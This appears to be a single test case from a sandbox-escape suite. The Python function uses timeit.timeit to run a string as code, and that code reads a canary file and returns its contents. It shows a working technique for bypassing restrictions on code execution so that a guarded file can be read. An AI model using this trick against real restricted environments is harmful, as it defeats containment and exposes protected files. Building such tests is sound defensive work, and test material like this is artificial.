# desc: timeit runs a text as code
# class: escape
# wins: told
import timeit

def attack(state):
    found = []
    timeit.timeit("found.append(open('@CANARY@').read())", number=1, globals={"found": found})
    return "L2:" + found[0]
